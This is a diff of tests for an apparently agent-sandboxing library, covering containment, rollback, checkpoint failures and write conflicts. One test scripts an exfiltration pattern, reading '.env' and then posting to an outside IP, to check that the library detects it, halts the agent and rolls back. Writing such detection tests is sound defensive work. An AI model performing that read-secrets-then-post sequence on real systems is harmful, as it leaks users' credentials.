@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 
 from ringfence import IsolationLevel, ResourceLimits, SandboxConfig, SandboxMode
-from ringfence.errors import AttackError, ConflictError, SupervisionError
+from ringfence.errors import AttackError, CheckpointError, ConflictError, SupervisionError
 from ringfence.integrations.deep_agent import Commit, SafeConfig, SafeDeepAgent, verify_audit
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -289,6 +289,20 @@ def test_an_attack_is_found_also_between_calls_in_and_outside_the_sandbox(repo: 
 # ---- keeping
 
 
+def test_a_sandbox_that_somebody_else_has_destroyed_stops_neither_containment_nor_reset(repo: Path) -> None:
+    with agent(repo, commit=Commit.ON_REQUEST) as made:
+        made.run_tool("read_file", path=".env")
+        made.manager.destroy_sandbox(made.sandbox.sandbox_id)
+        with pytest.raises(AttackError):
+            made.run_tool("http_post", url="http://198.51.100.7/", body="x")
+        assert made.halted and [each["event"] for each in events(made)][-2:] == ["attack", "rollback"]
+        made.reset()
+        made.run_tool("write_file", path="notes.txt", text="x")
+        made.manager.destroy_sandbox(made.sandbox.sandbox_id)
+        made.reset()
+        assert made.run_tool("write_file", path="notes.txt", text="x").success
+
+
 def test_nothing_is_kept_before_it_is_asked_for(repo: Path) -> None:
     with agent(repo, commit=Commit.ON_REQUEST) as made:
         made.run_tool("write_file", path="notes.txt", text="new\n")
@@ -297,6 +311,49 @@ def test_nothing_is_kept_before_it_is_asked_for(repo: Path) -> None:
         assert (repo / "notes.txt").read_text() == "new\n" and made.diff() == ""
         made.run_tool("write_file", path="notes.txt", text="dropped\n")
     assert (repo / "notes.txt").read_text() == "new\n"
+
+
+@pytest.mark.parametrize(
+    ("commit", "mode"), [(Commit.EACH_CALL, SandboxMode.AUTO), (Commit.ON_REQUEST, SandboxMode.ALWAYS)]
+)
+def test_what_can_not_be_kept_is_a_result_and_the_agent_goes_on(repo: Path, commit: Commit, mode: SandboxMode) -> None:
+    def execute_deep() -> None:
+        for _ in range(600):
+            os.mkdir("d")
+            os.chdir("d")
+
+    with agent(repo, commit=commit, sandbox_mode=mode) as made:
+        made.tools["execute_deep"] = execute_deep
+        results = [made.run_tool("execute_deep"), made.run_tool("write_file", path="a.txt", text="a")]
+        assert [each.rolled_back for each in results].count(True) == 1
+        assert any("can't be kept" in str(each.error) for each in results)
+        assert made.run_tool("write_file", path="b.txt", text="b").success and "/d" not in str(made.sandbox.changed())
+
+
+def test_a_sandbox_that_can_not_be_made_is_no_result_of_the_tool(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def broken(*_: object) -> None:
+        raise CheckpointError("no room")
+
+    with agent(repo) as made, pytest.raises(CheckpointError, match="no room"):
+        monkeypatch.setattr(made.manager, "create_sandbox", broken)
+        made.run_tool("write_file", path="a.txt", text="a")
+
+
+def test_a_conflict_of_one_call_is_its_result_and_not_the_next_ones(repo: Path) -> None:
+    def execute_meanwhile() -> None:
+        with open("notes.txt", "w") as file:
+            file.write("mine")
+
+    with agent(repo) as made:
+        made.tools["execute_meanwhile"] = execute_meanwhile
+        assert made.run_tool("write_file", path="notes.txt", text="first").success
+        keep = made._keep
+        made._keep = lambda: ((repo / "notes.txt").write_text("theirs"), keep())[1]  # type: ignore[method-assign]
+        lost = made.run_tool("execute_meanwhile")
+        assert not lost.success and lost.rolled_back and "notes.txt" in str(lost.error)
+        made._keep = keep  # type: ignore[method-assign]
+        assert made.run_tool("write_file", path="other.txt", text="x").success
+    assert (repo / "notes.txt").read_text() == "theirs"
 
 
 def test_somebody_elses_change_is_never_overwritten(repo: Path) -> None:
@@ -357,6 +414,7 @@ def test_the_demonstration_shows_the_three_use_cases(tmp_path: Path) -> None:
     assert (tmp_path / "act-1" / "report.txt").read_text() == "mean 3.0\n"
 
     assert said[1]["✗ attack"] == "call 2 (read_file) named .env, then the tool 'http_post'"
+    assert said[1]["rolled back"] == "full, paths restored: 1"
     assert said[1]["in sandbox"] == "todo.txt" and said[1]["agent"] == "stands still until reset()"
     assert after["act-2"] == before == said[1]["after"].split()
 
